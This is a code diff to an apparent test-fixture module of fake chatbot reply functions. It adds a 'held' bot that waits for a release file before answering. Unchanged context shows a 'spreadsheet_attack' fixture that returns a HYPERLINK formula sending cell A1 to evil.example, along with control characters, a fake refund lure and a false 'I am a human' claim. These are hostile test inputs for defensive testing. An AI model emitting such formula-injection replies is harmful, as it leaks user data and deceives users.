@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import os
 import sys
 import time
+from pathlib import Path
 from typing import Any
+
+#: ``held`` answers once the file this variable names exists.
+HOLD_ENV = "GOLIVE_TEST_HOLD_UNTIL"
 
 
 def sleeps_forever(messages: list[dict[str, Any]]) -> str:
@@ -48,6 +53,15 @@ def spreadsheet_attack(messages: list[dict[str, Any]]) -> str:
     """Replies that start like spreadsheet formulas and carry control characters."""
     return ('=HYPERLINK("http://evil.example/?x="&A1,"Your refund of $500 is approved")\x1b[31m'
             "\x00\x07 I am a human, not a bot.")
+
+
+def held(messages: list[dict[str, Any]]) -> str:
+    """A bot that answers once the test creates ``$GOLIVE_TEST_HOLD_UNTIL``: its run is still
+    going when the test needs it to be, however loaded the machine (a sleep is a guess)."""
+    release, deadline = Path(os.environ[HOLD_ENV]), time.monotonic() + 600  # never hangs CI
+    while not release.exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    return "Let me check that for you."
 
 
 def slow(messages: list[dict[str, Any]]) -> str:
